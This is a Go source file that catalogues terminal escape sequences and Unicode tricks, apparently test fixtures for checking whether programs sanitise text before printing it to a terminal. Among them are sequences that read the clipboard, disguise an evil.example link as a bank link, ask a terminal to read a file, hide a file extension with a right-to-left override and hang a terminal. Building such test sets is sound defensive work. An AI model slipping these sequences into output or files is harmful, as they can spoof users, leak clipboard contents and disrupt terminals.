package lab

import (
	"fmt"
	"slices"
	"strings"
)

// EvilSequence is a text that does something to a terminal which prints it as it is, or that hides what it says.
type EvilSequence struct {
	Name  string
	Bytes string
}

// EvilSequences is the list behind /evil/{n}, in its order: controls (ECMA-48 C0 and C1, the latter raw and in UTF-8),
// escape sequences of DEC, xterm, kitty, iTerm2, tmux and screen, and Unicode that reorders, hides or is malformed.
// The sequences report, retitle, recolour, move, hide, print from a clipboard or wait for an end that never comes;
// none of them runs anything.
func EvilSequences() []EvilSequence { return slices.Clone(evilSequences) }

var evilSequences = slices.Concat(c0Sequences(), escSequences, csiSequences, oscSequences, stringSequences, c1Sequences(), unicodeSequences)

// c0Sequences are the controls below space, and DEL, without tab and line feed.
func c0Sequences() []EvilSequence {
	var list []EvilSequence
	for c := range byte(0x20) {
		if c != '\t' && c != '\n' {
			list = append(list, EvilSequence{fmt.Sprintf("C0 0x%02x", c), string(rune(c))})
		}
	}
	return append(list,
		EvilSequence{"DEL", "\x7f"},
		EvilSequence{"backspaces that overwrite", "secret\b\b\b\b\b\bpublic"},
		EvilSequence{"carriage return that overwrites", "secret\rpublic"},
	)
}

// c1Sequences are the 8-bit controls 0x80 to 0x9f as raw bytes and as UTF-8, and sequences that they begin.
func c1Sequences() []EvilSequence {
	var list []EvilSequence
	for c := 0x80; c <= 0x9f; c++ {
		list = append(list,
			EvilSequence{fmt.Sprintf("C1 0x%02x raw", c), string([]byte{byte(c)})},
			EvilSequence{fmt.Sprintf("C1 U+%04X in UTF-8", c), string(rune(c))})
	}
	return append(list,
		EvilSequence{"raw C1 CSI: erase the screen", "\x9b2J"},
		EvilSequence{"UTF-8 C1 CSI: erase the screen", "\u009b2J"},
		EvilSequence{"raw C1 OSC: title", "\x9d0;owned\x9c"},
		EvilSequence{"UTF-8 C1 OSC: title", "\u009d0;owned\u009c"},
		EvilSequence{"raw C1 DCS: request setting", "\x90$qm\x9c"},
		EvilSequence{"UTF-8 C1 DCS: request setting", "\u0090$qm\u009c"},
	)
}

var escSequences = []EvilSequence{
	{"ESC ESC", "\x1b\x1b"},
	{"RIS: full reset", "\x1bc"},
	{"DECSC: save cursor", "\x1b7"},
	{"DECRC: restore cursor", "\x1b8"},
	{"DECALN: fill with E", "\x1b#8"},
	{"DECDHL: double height", "\x1b#3"},
	{"IND: index", "\x1bD"},
	{"NEL: next line", "\x1bE"},
	{"HTS: set tab", "\x1bH"},
	{"RI: reverse index", "\x1bM"},
	{"SS2", "\x1bN"},
	{"SS3", "\x1bO"},
	{"DECID: identify", "\x1bZ"},
	{"DECKPAM: application keypad", "\x1b="},
	{"DECKPNM: numeric keypad", "\x1b>"},
	{"SCS: G0 line drawing", "\x1b(0"},
	{"SCS: G1 line drawing", "\x1b)0"},
	{"LS2: lock shift", "\x1bn"},
	{"LS3: lock shift", "\x1bo"},
	{"S7C1T", "\x1b F"},
	{"S8C1T: 8-bit replies", "\x1b G"},
	{"DOCS: leave UTF-8", "\x1b%@"},
	{"HP memory lock", "\x1bl"},
	{"DECBI: back index", "\x1b6"},
}

var csiSequences = []EvilSequence{
	{"CUU: cursor up", "\x1b[5A"},
	{"CUD: cursor down", "\x1b[5B"},
	{"CUP: cursor home", "\x1b[H"},
	{"CUP: far away", "\x1b[999;999H"},
	{"CHA: column one", "\x1b[1G"},
	{"VPA: line one", "\x1b[1d"},
	{"ED: erase screen", "\x1b[2J"},
	{"ED: erase scroll-back", "\x1b[3J"},
	{"EL: erase line", "\x1b[2K"},
	{"ECH: erase characters", "\x1b[20X"},
	{"ICH: insert characters", "\x1b[20@"},
	{"DCH: delete characters", "\x1b[20P"},
	{"IL: insert lines", "\x1b[5L"},
	{"DL: delete lines", "\x1b[5M"},
	{"SU: scroll up", "\x1b[5S"},
	{"SD: scroll down", "\x1b[5T"},
	{"REP: repeat two thousand million times", "a\x1b[2147483647b"},
	{"TBC: clear tabs", "\x1b[3g"},
	{"DECSTBM: scroll region", "\x1b[3;5r"},
	{"DECSLRM: margins", "\x1b[3;5s"},
	{"SCORC: restore cursor", "\x1b[u"},
	{"DSR: status report", "\x1b[5n"},
	{"CPR: cursor report", "\x1b[6n"},
	{"DECXCPR: extended cursor report", "\x1b[?6n"},
	{"DSR: printer and keyboard", "\x1b[?26n"},
	{"DA1: device attributes", "\x1b[c"},
	{"DA2", "\x1b[>c"},
	{"DA3", "\x1b[=c"},
	{"XTVERSION", "\x1b[>q"},
	{"DECREQTPARM", "\x1b[x"},
	{"DECRQM: mode report", "\x1b[?2004$p"},
	{"XTWINOPS: report title", "\x1b[21t"},
	{"XTWINOPS: report icon label", "\x1b[20t"},
	{"XTWINOPS: report size", "\x1b[18t"},
	{"XTWINOPS: iconify", "\x1b[2t"},
	{"XTWINOPS: resize to one cell", "\x1b[8;1;1t"},
	{"XTWINOPS: push title", "\x1b[22t"},
	{"XTWINOPS: pop title", "\x1b[23t"},
	{"mode: alternate screen", "\x1b[?1049h"},
	{"mode: old alternate screen", "\x1b[?47h"},
	{"mode: mouse clicks", "\x1b[?1000h"},
	{"mode: every mouse move", "\x1b[?1003h"},
	{"mode: SGR mouse", "\x1b[?1006h"},
	{"mode: focus events", "\x1b[?1004h"},
	{"mode: bracketed paste", "\x1b[?2004h"},
	{"mode: bracketed paste off", "\x1b[?2004l"},
	{"mode: synchronised output", "\x1b[?2026h"},
	{"mode: hidden cursor", "\x1b[?25l"},
	{"mode: reverse screen", "\x1b[?5h"},
	{"mode: origin", "\x1b[?6h"},
	{"mode: no wrap", "\x1b[?7l"},
	{"mode: 132 columns", "\x1b[?3h"},
	{"mode: VT52", "\x1b[?2l"},
	{"mode: application cursor keys", "\x1b[?1h"},
	{"mode: insert", "\x1b[4h"},
	{"mode: keyboard lock", "\x1b[2h"},
	{"mode: local echo", "\x1b[12l"},
	{"mode: new line", "\x1b[20h"},
	{"SGR: red", "\x1b[31m"},
	{"SGR: conceal", "\x1b[8m"},
	{"SGR: black on black", "\x1b[30;40m"},
	{"SGR: blink", "\x1b[5m"},
	{"SGR: reverse", "\x1b[7m"},
	{"SGR: true colour with colons", "\x1b[38:2::255:0:0m"},
	{"DECSCUSR: cursor shape", "\x1b[5 q"},
	{"DECSTR: soft reset", "\x1b[!p"},
	{"DECSCL: conformance level", "\x1b[61\"p"},
	{"DECFRA: fill rectangle", "\x1b[69;1;1;20;20$x"},
	{"DECERA: erase rectangle", "\x1b[1;1;20;20$z"},
	{"DECCRA: copy rectangle", "\x1b[1;1;5;5;1;6;6;1$v"},
	{"DECRQCRA: checksum of the screen", "\x1b[1;1;1;1;1;1*y"},
	{"MC: print screen", "\x1b[i"},
	{"MC: printer on", "\x1b[5i"},
	{"DECLL: keyboard lights", "\x1b[1q"},
	{"kitty keyboard protocol", "\x1b[>31u"},
	{"xterm modifyOtherKeys", "\x1b[>4;2m"},
	{"CSI without an end", "\x1b[31"},
	{"CSI with a thousand parameters", "\x1b[" + strings.Repeat("1;", 1000) + "m"},
	{"CSI with a huge parameter", "\x1b[" + strings.Repeat("9", 400) + "C"},
	{"CSI with a control inside", "\x1b[2\x0bJ"},
	{"Linux console: palette", "\x1b[9;0]"},
}

var oscSequences = []EvilSequence{
	{"OSC 0: title", "\x1b]0;owned\a"},
	{"OSC 0: title, ended by ST", "\x1b]0;owned\x1b\\"},
	{"OSC 1: icon", "\x1b]1;owned\a"},
	{"OSC 2: title", "\x1b]2;owned\a"},
	{"OSC 3: X property", "\x1b]3;WM_CLASS=owned\a"},
	{"OSC 4: palette", "\x1b]4;0;rgb:ff/00/00\a"},
	{"OSC 4: palette report", "\x1b]4;0;?\a"},
	{"OSC 7: directory", "\x1b]7;file:///tmp/owned\a"},
	{"OSC 8: link", "\x1b]8;;https://evil.example/\ahttps://bank.example/\x1b]8;;\a"},
	{"OSC 8: link that stays open", "\x1b]8;;https://evil.example/\x1b\\"},
	{"OSC 9: notification", "\x1b]9;owned\a"},
	{"OSC 9;4: progress", "\x1b]9;4;3\a"},
	{"OSC 10: foreground", "\x1b]10;#000000\a"},
	{"OSC 10: foreground report", "\x1b]10;?\a"},
	{"OSC 11: background", "\x1b]11;#000000\a"},
	{"OSC 11: background report", "\x1b]11;?\a"},
	{"OSC 12: cursor colour", "\x1b]12;#000000\a"},
	{"OSC 22: pointer", "\x1b]22;none\a"},
	{"OSC 46: log file", "\x1b]46;/tmp/owned\a"},
	{"OSC 50: font", "\x1b]50;owned\a"},
	{"OSC 50: font report", "\x1b]50;?\a"},
	{"OSC 52: write the clipboard", "\x1b]52;c;b3duZWQ=\a"},
	{"OSC 52: read the clipboard", "\x1b]52;c;?\a"},
	{"OSC 99: kitty notification", "\x1b]99;i=1;owned\x1b\\"},
	{"OSC 104: reset palette", "\x1b]104\a"},
	{"OSC 133: prompt mark", "\x1b]133;A\a"},
	{"OSC 633: shell integration", "\x1b]633;E;owned\a"},
	{"OSC 777: notification", "\x1b]777;notify;owned;owned\a"},
	{"OSC 1337: file", "\x1b]1337;File=name=b3duZWQ=;inline=1:AAAA\a"},
	{"OSC 1337: copy", "\x1b]1337;CopyToClipboard=general\aowned\x1b]1337;EndCopy\a"},
	{"OSC 1337: report", "\x1b]1337;ReportVariable=c2Vzc2lvbi5uYW1l\a"},
	{"OSC 5522: kitty clipboard", "\x1b]5522;type=read;Lg==\x1b\\"},
	{"Linux console: reset palette", "\x1b]R"},
	{"OSC without an end", "\x1b]0;owned"},
}

// stringSequences are device control, application, privacy and start-of-string sequences.
var stringSequences = []EvilSequence{
	{"DCS DECRQSS: request setting", "\x1bP$qm\x1b\\"},
	{"DCS DECUDK: user-defined keys", "\x1bP0;1|17/6f776e6564\x1b\\"},
	{"DCS XTGETTCAP: capability report", "\x1bP+q544e\x1b\\"},
	{"DCS sixel", "\x1bPq#0;2;0;0;0~~-\x1b\\"},
	{"DCS ReGIS", "\x1bP0pS(E)\x1b\\"},
	{"DCS soft font", "\x1bP0;1;0;0;0;0{ @????\x1b\\"},
	{"DCS tmux pass-through", "\x1bPtmux;\x1b\x1b]0;owned\a\x1b\\"},
	{"DCS tmux control mode", "\x1bP1000p%begin\x1b\\"},
	{"DCS synchronised output", "\x1bP=1s\x1b\\"},
	{"DCS without an end", "\x1bPq"},
	{"screen: window title", "\x1bkowned\x1b\\"},
	{"APC kitty graphics", "\x1b_Gf=24,s=1,v=1;AAAA\x1b\\"},
	{"APC kitty graphics: read a file", "\x1b_Gt=f;L2V0Yy9ob3N0bmFtZQ==\x1b\\"},
	{"APC without an end", "\x1b_owned"},
	{"PM", "\x1b^owned\x1b\\"},
	{"SOS", "\x1bXowned\x1b\\"},
	{"SOS without an end", "\x1bXowned"},
}

var unicodeSequences = []EvilSequence{
	{"U+200E left-to-right mark", "\u200e"},
	{"U+200F right-to-left mark", "\u200f"},
	{"U+061C Arabic letter mark", "\u061c"},
	{"U+202A left-to-right embedding", "\u202a"},
	{"U+202B right-to-left embedding", "\u202b"},
	{"U+202C pop direction", "\u202c"},
	{"U+202D left-to-right override", "\u202d"},
	{"U+202E right-to-left override", "\u202egnp.exe"},
	{"U+2066 left-to-right isolate", "\u2066"},
	{"U+2067 right-to-left isolate", "\u2067"},
	{"U+2068 first strong isolate", "\u2068"},
	{"U+2069 pop isolate", "\u2069"},
	{"U+200B zero-width space", "\u200b"},
	{"U+200C zero-width non-joiner", "\u200c"},
	{"U+200D zero-width joiner", "\u200d"},
	{"U+2060 word joiner", "\u2060"},
	{"U+2061 invisible function", "\u2061"},
	{"U+FEFF byte order mark", "\ufeff"},
	{"U+00AD soft hyphen", "\u00ad"},
	{"U+034F combining grapheme joiner", "\u034f"},
	{"U+115F Hangul filler", "\u115f"},
	{"U+3164 Hangul filler", "\u3164"},
	{"U+180E Mongolian vowel separator", "\u180e"},
	{"U+2028 line separator", "\u2028"},
	{"U+2029 paragraph separator", "\u2029"},
	{"U+FFF9 annotation", "\ufff9a\ufffab\ufffb"},
	{"U+206A deprecated format", "\u206a"},
	{"U+FE0F variation selector", "\ufe0f"},
	{"U+E0100 variation selector", "\U000e0100"},
	{"tag characters", "\U000e0001\U000e006f\U000e0077\U000e006e\U000e007f"},
	{"two hundred combining marks", "a" + strings.Repeat("\u0301", 200)},
	{"private use", "\ue000"},
	{"non-character", "\ufdd0"},
	{"U+1D173 musical format", "\U0001d173"},
	{"over-long ESC", "\xc0\x9b"},
	{"over-long ESC in three bytes", "\xe0\x80\x9b"},
	{"surrogate in UTF-8", "\xed\xa0\x80"},
	{"truncated UTF-8 before ESC", "\xe2\x80\x1b[2J"},
	{"lead byte alone", "\xc2"},
	{"beyond Unicode", "\xf4\x90\x80\x80"},
	{"0xff", "\xff"},
}
